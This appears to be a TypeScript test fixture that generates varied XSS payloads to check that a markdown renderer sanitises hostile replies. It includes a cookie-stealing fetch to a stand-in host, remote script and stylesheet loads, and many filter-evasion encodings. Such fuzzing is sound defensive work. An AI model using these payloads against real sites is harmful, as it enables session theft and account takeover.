import { fenceAfter, markdownBlocks } from "./markdown_blocks";

/** Texts that try to run a script or to load something, made anew from a seed: each way to try, written in each way. */

export const HOST = "evil.example.org";
/** What a script that ran would have set. */
export const MARK = "xssRan";

const SCRIPT = `window.${MARK}=1`;

/** A generator of numbers from 0 to 1 that gives the same ones for the same seed (mulberry32). */
function numbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const TAGS = ["img", "svg", "iframe", "script", "object", "embed", "video", "audio", "body", "details", "math", "form", "input", "marquee", "style", "link", "meta", "base", "a", "x-custom"];
const EVENTS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerenter", "onstart"];
const SCHEMES = ["javascript:", "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "file:///", "blob:", "view-source:javascript:"];

type Random = () => number;
const word = (random: Random) => random().toString(36).slice(2, 7);
const pick = <T,>(random: Random, from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;

const CALLS: readonly ((random: Random) => string)[] = [
  () => SCRIPT,
  () => `eval('${SCRIPT}')`,
  () => `alert\`1\`;${SCRIPT}`,
  () => `fetch('https://${HOST}/'+document.cookie)`,
  () => `Function("${SCRIPT}")()`,
  (random) => `setTimeout('${SCRIPT}',${Math.floor(random() * 9)})`,
];

const VECTORS: readonly ((random: Random) => string)[] = [
  (random) => `<script>${pick(random, CALLS)(random)}</script>`,
  (random) => `<script src="//${HOST}/${word(random)}.js"></script>`,
  (random) => `<${pick(random, TAGS)} src=x ${pick(random, EVENTS)}="${pick(random, CALLS)(random)}">`,
  (random) => `<${pick(random, TAGS)}/${pick(random, EVENTS)}=${SCRIPT} autofocus tabindex=1 open>`,
  (random) => `<${pick(random, TAGS)} href="${pick(random, SCHEMES)}${pick(random, CALLS)(random)}">x</${pick(random, TAGS)}>`,
  (random) => `<svg><animate ${pick(random, EVENTS)}=${SCRIPT} attributeName=x dur=1s></svg>`,
  (random) => `<math><mtext><${pick(random, TAGS)}><mglyph><style><img src=x ${pick(random, EVENTS)}=${SCRIPT}>`,
  () => `<iframe srcdoc="&lt;script&gt;parent.${MARK}=1&lt;/script&gt;"></iframe>`,
  () => `<style>@import url(https://${HOST}/x.css);*{background:url(//${HOST}/x.png)}</style>`,
  () => `<meta http-equiv="refresh" content="0;url=https://${HOST}/">`,
  () => `<base href="https://${HOST}/">`,
  () => `<form action="https://${HOST}/"><button formaction="javascript:${SCRIPT}">x</button></form>`,
  (random) => `[x](${pick(random, SCHEMES)}${encodeURIComponent(pick(random, CALLS)(random))})`,
  (random) => `![x](${pick(random, [...SCHEMES, "https:", "//", "http://"])}//${HOST}/x.png)`,
  (random) => `[x](<${pick(random, SCHEMES)}${SCRIPT}> "a" ${pick(random, EVENTS)}=${SCRIPT}")`,
  (random) => {
    const label = word(random);
    return `[${label}]: ${pick(random, SCHEMES)}${SCRIPT}\n\n[${label}] ![${label}]`;
  },
  (random) => `<${pick(random, SCHEMES)}${SCRIPT}>`,
  (random) => {
    const label = word(random);
    return `[^${label}]\n\n[^${label}]: <img src=x ${pick(random, EVENTS)}=${SCRIPT}>`;
  },
  (random) => `$\\href{${pick(random, SCHEMES)}${SCRIPT}}{x}$`,
  (random) => `$$\\htmlStyle{background:url(//${HOST}/)}{x} \\htmlData{${pick(random, EVENTS)}=${SCRIPT}}{x}$$`,
  () => `\\[\\includegraphics{https://${HOST}/x.png}\\]`,
  (random) => `\\(\\text{</annotation><img src=x ${pick(random, EVENTS)}=${SCRIPT}>}\\)`,
  (random) => `\`\`\`"${pick(random, EVENTS)}=${SCRIPT} x="\n<script>${SCRIPT}</script>\n\`\`\``,
  (random) => `\`\`\`html\n<img src=x ${pick(random, EVENTS)}="${SCRIPT}">\n\`\`\``,
  (random) => `| a | <img src=x ${pick(random, EVENTS)}=${SCRIPT}> |\n|---|:-:|\n| ![x](//${HOST}/) | [x](${pick(random, SCHEMES)}x) |`,
  () => `{{constructor.constructor('${SCRIPT}')()}} \${${SCRIPT}} <%= ${SCRIPT} %>`,
];

const WRITTEN: readonly ((text: string, random: Random) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll(MARK.toUpperCase(), MARK),
  (text, random) => text.replaceAll(/[a-z]/gi, (sign) => (random() < 0.5 ? sign.toUpperCase() : sign.toLowerCase())),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("javascript:", "java\tscript:").replaceAll(" ", "\t"),
  (text) => text.replaceAll("javascript:", "&#106;avascript&colon;"),
  (text) => text.replaceAll("script", "scr\u0000ipt"),
  (text) => text.replaceAll("<", "\u{ff1c}").replaceAll(">", "\u{ff1e}"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(":", "%3A"),
  (text) => `\u202e${text}\u202c`,
  (text) => text.replaceAll("<", "<\u200b").replaceAll("=", "\u00a0="),
  (text) => text.replaceAll("script>", "script\n>"),
];

const PLACED: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Text ${text} text`,
  (text) => `> ${text.replaceAll("\n", "\n> ")}`,
  (text) => `- ${text.replaceAll("\n", "\n  ")}`,
  (text) => `# ${text}`,
  (text) => `**${text}**`,
  (text) => `"'><!--${text}-->`,
  (text) => `</title></textarea></script>${text}`,
  (text) => `]]>${text}<![CDATA[`,
  (text) => `[${text}](https://${HOST}/)`,
];

/** `count` texts that are all different. */
export function hostileTexts(count: number, seed = 5): string[] {
  const random = numbers(seed);
  const texts = new Set<string>();
  while (texts.size < count) {
    const vector = pick(random, VECTORS)(random);
    texts.add(withFenceClosed(pick(random, PLACED)(pick(random, WRITTEN)(vector, random))));
  }
  return [...texts];
}

/** What follows is not drawn as code. */
function withFenceClosed(text: string): string {
  const open = text.split("\n").reduce(fenceAfter, null);
  return open === null ? text : `${text}\n${open}`;
}

/** In runs of so many. */
export const inBatchesOf = <T,>(each: number, texts: readonly T[]) =>
  Array.from({ length: Math.ceil(texts.length / each) }, (_, index) => texts.slice(index * each, (index + 1) * each));

/**
 * Replies that hold all texts, up to `each` in one and each drawn by itself: none reaches into the next, as an open
 * `<script>` would.  Those with definitions, which keep a reply in one piece, stand in replies of their own.
 */
export function hostileReplies(texts: readonly string[], each: number): string[] {
  const alone = texts.filter((text) => standsAlone(text));
  const defining = texts.filter((text) => !standsAlone(text));
  return [alone, defining].flatMap((some) => inBatchesOf(each, some)).map((some) => some.join("\n\n.\n\n"));
}

export function standsAlone(text: string): boolean {
  return markdownBlocks(`${text}\n\n.`).at(-1) === ".";
}
